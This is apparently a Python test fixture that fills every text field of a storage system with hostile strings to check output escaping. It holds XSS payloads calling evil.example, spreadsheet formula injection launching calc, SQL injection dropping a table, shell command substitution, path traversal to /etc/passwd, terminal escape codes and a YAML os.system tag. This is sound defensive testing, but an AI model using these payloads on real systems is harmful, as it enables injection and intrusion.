"""Texts that break what is careless.

Each means something to a browser, a terminal, a spreadsheet, SQL or a shell.
"""

from dataclasses import replace
from pathlib import Path

from storage.open_store import Store, open_store
from storage.records import (
    AdaptedGuideline,
    Adapter,
    Answer,
    Guideline,
    Model,
    Promotion,
    Prompt,
    Question,
    QuestionSet,
    Record,
    Round,
    Structure,
    TrainingExample,
    Verdict,
)
from storage.records import Path as RecordedPath
from tests.storage.story import whole_story

HOSTILE = {
    "script": (
        "<script>alert('x')</script><img src=http://evil.example/x onerror=go()></pre></dd></title>"
    ),
    "svg": (
        '"/><svg onload=go()><a href="javascript:go()">x</a><iframe srcdoc="<script>1</script>">'
    ),
    "markdown": (
        "[click](javascript:go()) ![x](http://evil.example/x) | a | b |\n\n# Title\n```\n<b>&lt;"
    ),
    "terminal": "\x1b[31mred\x1b]0;title\x07\x1b]8;;http://evil.example\x07link\x9b2J\r\x08\x7f",
    "direction": "\u202egpj.exe\u2066\u200f\ufeff\u2028next",
    "formula_equals": '=HYPERLINK("http://evil.example/"&A1,"click")',
    "formula_plus": "+cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "sql": "'; DROP TABLE paths; --\" $1 {0} %s",
    "shell": "$(touch pwned) `touch pwned` ; touch pwned & ${HOME} $title ../../../etc/passwd",
    "yaml": "---\nlicense: mit\n!!python/object/apply:os.system ['touch pwned']\n...",
    "page": (
        ' </pre></details><img src="http://evil.example/a.png" onerror="window.harmed ='
        ' 1"><script>window.harmed = 1</script> [click](javascript:window.harmed=1)'
        ' http://evil.example/c <marimo-ui-element random-id="1"></marimo-ui-element> $$x$$ {{x}}'
        " `x` \x1b[31mred\x07 \u202eesrever"
    ),
    "rich": "[/red][link=http://evil.example]x[/link] [bold",
}
ALL = " ".join(HOSTILE.values())

_TEXTS: dict[type[Record], tuple[str, ...]] = {
    QuestionSet: ("name", "source", "licence", "citation"),
    Question: ("text", "answer", "source_row_id"),
    Guideline: ("name", "text"),
    Prompt: ("text",),
    Model: ("name",),
    AdaptedGuideline: ("text",),
    Structure: ("text",),
    RecordedPath: ("text",),
    Verdict: ("extracted", "rater"),
    TrainingExample: ("prompt", "completion"),
    Adapter: ("name",),
    Answer: ("text", "strict_extracted"),
    Promotion: ("reasons",),
    Round: ("line", "reason"),
}


def hostile_store(file: Path, *, after: str = "") -> Store:
    """The story of three rounds in which every text that a model, a file or a user gave is hostile.

    A path holds one of the texts, in turn; all else holds all of them. With `after`, each text
    stays, to be searched for, and this follows it.
    """
    file.parent.mkdir(parents=True, exist_ok=True)
    store = open_store(f"duckdb:///{file}")
    store.append([_poisoned(record, number, after) for number, record in enumerate(whole_story())])
    return store


def _poisoned(record: Record, number: int, after: str) -> Record:
    texts = {name: getattr(record, name) for name in _TEXTS.get(type(record), ())}
    changed = {
        name: text + after if after else f"{ALL} {text}"
        for name, text in texts.items()
        if text is not None
    }
    if isinstance(record, RecordedPath) and not after:
        return replace(record, text=list(HOSTILE.values())[number % len(HOSTILE)])
    changed |= {name: "{}" for name in ("settings", "timings") if hasattr(record, name)}
    if isinstance(record, QuestionSet):
        return replace(record, redistributable=True, **changed)
    return replace(record, **changed)
